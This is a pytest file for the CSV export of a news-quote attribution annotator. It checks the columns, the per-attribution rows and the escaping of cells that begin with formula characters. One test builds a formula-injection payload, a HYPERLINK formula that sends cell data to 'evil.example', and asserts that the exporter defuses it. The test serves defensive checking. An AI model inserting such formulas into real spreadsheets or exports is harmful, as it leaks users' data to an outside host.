"""CSV export: one row per attribution, the article's metadata and each span's text."""

from __future__ import annotations

import csv
import io

import pytest

from annotator.formats.csv_format import COLUMNS, iter_csv
from annotator.formats.records import AttributionRecord, CorpusArticle


def _rows(articles) -> list[dict]:
    return list(csv.DictReader(io.StringIO("".join(iter_csv(articles)), newline="")))


def test_one_row_per_attribution_with_metadata_and_span_texts(mayadeen):
    art = mayadeen
    empty = CorpusArticle(text="No quotes here.", title="Second")
    third = CorpusArticle(text="Officials said the town fell.", attributions=[AttributionRecord("indirect", (15, 28))])
    rows = _rows([art, empty, third])
    assert len(rows) == len(art.attributions) + 1
    assert list(rows[0]) == list(COLUMNS)
    for needed in (
        "title",
        "outlet",
        "byline",
        "url",
        "published",
        "collection",
        "article",
        "content_text",
        "cue_text",
        "source_text",
        "anonymity_reason_text",
        "speaker",
        "status",
        "credibility",
        "note",
        "origin",
        "state",
        "confidence",
        "content_start",
        "content_end",
    ):
        assert needed in COLUMNS
    first = rows[0]
    assert (first["article"], first["attribution"], first["title"], first["published"]) == (
        "1",
        "1",
        "ISIS leaders flee to Mayadeen",
        "2017-06-19",
    )
    assert first["content_text"] == art.text[423:633] and first["cue_text"] == "say"
    assert first["note"] == art.attributions[0].note  # line breaks survive quoting
    with_reason = next(r for r in rows if r["anonymity_reason_text"])
    assert with_reason["anonymity_reason_text"] == "who weren't authorized to speak publicly on the matter"
    assert (rows[-1]["article"], rows[-1]["source_text"], rows[-1]["cue_start"]) == ("3", "", "")


def test_header_only_for_no_articles():
    assert "".join(iter_csv([])) == ",".join(f'"{c}"' for c in COLUMNS) + "\r\n"


FIELDS = ("title", "outlet", "byline", "url", "collection", "speaker", "affiliation", "role", "note")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
@pytest.mark.parametrize("field", FIELDS)
def test_csv_cells_that_start_a_formula_are_escaped(field, start):
    payload = start + 'HYPERLINK("http://evil.example/?"&A1,"x")'
    text = payload + " said the town fell."
    att = AttributionRecord("indirect", (0, len(text)), source=(0, len(payload)))
    art = CorpusArticle(text=text, attributions=[att])
    setattr(att if hasattr(att, field) else art, field, payload)
    raw = "".join(iter_csv([art]))
    (row,) = _rows([art])
    assert row[field] == "'" + payload
    assert row["source_text"] == "'" + payload and row["content_text"] == "'" + text  # span texts too
    # the defused cell stays quoted: the quote mark is the first thing inside the field
    assert f'"\'{payload.replace(chr(34), chr(34) * 2)}"' in raw


@pytest.mark.parametrize("value", ["a = b", "Minus - sign", "3 + 4", "user@example.org", "'quoted'"])
def test_csv_cells_that_merely_contain_formula_characters_are_kept(value):
    art = CorpusArticle(text="Officials said it.", title=value, attributions=[AttributionRecord("indirect", (0, 9))])
    (row,) = _rows([art])
    assert row["title"] == value
